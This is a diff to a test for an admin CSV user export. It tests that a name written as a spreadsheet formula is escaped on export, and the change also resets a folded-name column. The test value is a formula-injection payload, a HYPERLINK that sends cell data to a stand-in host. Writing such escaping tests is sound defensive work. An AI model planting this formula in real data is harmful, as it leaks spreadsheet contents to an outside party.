@@ -149,7 +149,7 @@ describe('GET /admin/users.csv', () => {
 
   it('escapes names that are formulas', async () => {
     const name = '=HYPERLINK("http://x.example?"&A1,"ok")'
-    await env.DB.prepare('UPDATE users SET first_name = ? WHERE id = 2').bind(name).run()
+    await env.DB.prepare('UPDATE users SET first_name = ?, first_name_folded = NULL WHERE id = 2').bind(name).run()
     const [, row] = readCsv(decode(await (await download('?search=HYPERLINK')).arrayBuffer()).slice(1))
     expect(row?.[3]).toBe(`'${name}`)
   })
